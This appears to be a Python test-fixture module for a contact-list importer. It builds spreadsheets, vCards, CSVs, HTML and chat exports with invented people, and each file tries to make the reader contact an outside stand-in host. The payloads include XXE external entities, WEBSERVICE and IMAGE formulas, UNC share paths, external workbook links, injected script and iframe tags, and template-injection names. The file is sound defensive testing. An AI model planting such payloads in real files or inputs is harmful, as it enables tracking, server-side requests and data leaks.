"""Lists that ask whoever reads them to fetch something from elsewhere; every person in them is invented."""

import io
import json
import zipfile

from tests.lists.making import MAIN, ods, ods_row, sheet_xml, xlsx, zipped

AWAY = "http://198.51.100.7/seen"
"""An address of nobody (RFC 5737). Numbers, so that not even a look-up stands between us and the request."""
BY_NAME = "https://list-was-opened.example/seen"
HEAD = '<c r="A1" t="inlineStr"><is><t>Name</t></is></c><c r="B1" t="inlineStr"><is><t>Phone</t></is></c>'
LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = (
    f'<table:table table:name="A">{ods_row("Name", "Phone")}{ods_row("Ana Linked", AWAY)}'
    f'<office:dde-source/><text:a xlink:href="{AWAY}" xmlns:xlink="l"/></table:table>'
)
PAGE = (
    f'<html><head><link rel="stylesheet" href="{AWAY}.css"><base href="{BY_NAME}">'
    f'<script src="{AWAY}.js"></script><meta http-equiv="refresh" content="0;url={AWAY}"></head>'
    f'<body><img src="{AWAY}.png">'
    f'<iframe src="{AWAY}"></iframe>'
    "<table><tr><th>Name</th><th>Phone</th></tr><tr><td>Bo Page</td><td>917 555 0161</td></tr></table>"
    "</body></html>"
)
CARDS = (
    f"BEGIN:VCARD\nVERSION:3.0\nFN:Cy Card\nTEL:9175550162\nPHOTO;VALUE=URI:{AWAY}.jpg\nURL:{BY_NAME}\n"
    f"SOURCE:{AWAY}\nKEY;VALUE=uri:{AWAY}\nEND:VCARD\n"
)
FORMULAS = (
    f'Name,Phone,Notes\n"=IMAGE(""{AWAY}"")",917 555 0163,"=WEBSERVICE(""{BY_NAME}"")"\n'
    f"{BY_NAME},917 555 0164,\\\\198.51.100.7\\share\\x\nfile://198.51.100.7/x,917 555 0165,@SUM(1)\n"
)
MESSAGE = {
    "id": 1, "type": "message", "from": "Fay Chat", "from_id": "user1", "photo": f"{AWAY}.jpg",
    "text": [{"type": "link", "text": BY_NAME}],
}  # fmt: skip
BOOK = (
    f'<workbook {MAIN} xmlns:r="{KIND}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets>'
    '<externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>'
)
PROLOGUE = (
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY away SYSTEM "{AWAY}">'
    f'<!ENTITY % more SYSTEM "{AWAY}.dtd"> %more;]>'
)
EXTERNAL = f'<externalLink {MAIN}><externalBook r:id="rId1" xmlns:r="{KIND}"/></externalLink>'


def lists() -> list[tuple[str, bytes]]:
    """Name and content of each."""
    return [
        ("linked.xlsx", _linked_book()),
        ("formula.xlsx", xlsx(sheet_xml(_rows(f'<f>WEBSERVICE("{AWAY}")</f><v>1</v>')))),
        ("entity.xlsx", _with_entity(xlsx(sheet_xml(_rows("<v>1</v>"))))),
        ("linked.ods", ods(SHEET)),
        ("page.xls", PAGE.encode()),
        ("cards.vcf", CARDS.encode()),
        ("formulas.csv", FORMULAS.encode()),
        ("chat.txt", f"12/11/26, 21:04 - Dee Chat: look {BY_NAME}\n12/11/26, 21:05 - Eli Chat: {AWAY}\n".encode()),
        ("chat.json", json.dumps({"name": "n", "type": "private_group", "messages": [MESSAGE]}).encode()),
    ]  # fmt: skip


def names() -> list[str]:
    """What somebody types as a name."""
    return [
        f"Gil <img src={AWAY}>",
        f"Hal {BY_NAME}",
        '#import "@preview/cetz:0.2.0": *',
        f'Ivy"><script src="{AWAY}"></script>',
        f"Jo {{% include '{AWAY}' %}}",
        f'#image("{AWAY}")',
    ]


def parts(book: bytes) -> list[bytes]:
    """What lies in a packed file."""
    with zipfile.ZipFile(io.BytesIO(book)) as packed:
        return [packed.read(name) for name in packed.namelist()]


def _rows(inside: str) -> str:
    name = '<c r="A2" t="inlineStr"><is><t>Kim Book</t></is></c>'
    return f'<row r="1">{HEAD}</row><row r="2">{name}<c r="B2">{inside}</c></row>'


def _linked_book() -> bytes:
    """A workbook whose values stand in another book elsewhere, and that says where to find it."""
    return zipped(
        {
            "xl/workbook.xml": BOOK,
            "xl/_rels/workbook.xml.rels": _relations(
                ("worksheet", "worksheets/sheet1.xml", ""), ("externalLink", "externalLinks/externalLink1.xml", "")
            ),
            "xl/worksheets/sheet1.xml": sheet_xml(_rows("<f>[1]Sheet1!$A$1</f><v>7</v>")),
            "xl/worksheets/_rels/sheet1.xml.rels": _relations(("hyperlink", BY_NAME, "External")),
            "xl/externalLinks/externalLink1.xml": EXTERNAL,
            "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(
                ("externalLinkPath", f"{AWAY}.xlsx", "External")
            ),
        }
    )


def _relations(*told: tuple[str, str, str]) -> str:
    inside = "".join(
        f'<Relationship Id="rId{at}" Type="{KIND}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"/>' if mode else "/>")
        for at, (kind, target, mode) in enumerate(told, 1)
    )
    return f'<Relationships xmlns="{LINKS}">{inside}</Relationships>'


def _with_entity(book: bytes) -> bytes:
    """The same book, one sheet of which names an entity that lies elsewhere."""
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        found = {name: parts.read(name).decode() for name in parts.namelist()}
    sheet = found["xl/worksheets/sheet1.xml"].partition("?>")[2].replace("Kim Book", "Kim &away;")
    found["xl/worksheets/sheet1.xml"] = PROLOGUE + sheet
    return zipped(found)
